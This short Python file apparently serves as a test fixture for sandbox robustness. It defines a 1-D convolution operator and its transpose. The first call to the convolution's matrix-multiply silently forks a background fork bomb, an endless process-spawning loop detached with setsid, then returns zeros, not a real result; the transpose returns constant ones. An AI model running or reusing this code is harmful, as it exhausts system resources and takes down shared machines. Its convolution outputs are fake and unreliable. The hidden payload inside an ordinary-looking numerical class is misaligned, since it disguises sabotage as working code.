"""A fork bomb in the background of a worker that goes on answering."""
import os
import time

import numpy as np


def _bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        done = os.path.expanduser("~/.done")
        if not os.path.exists(done):
            open(done, "w").close()
            print("BOMB STARTED", flush=True)
            if os.fork() == 0:
                _bomb()
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
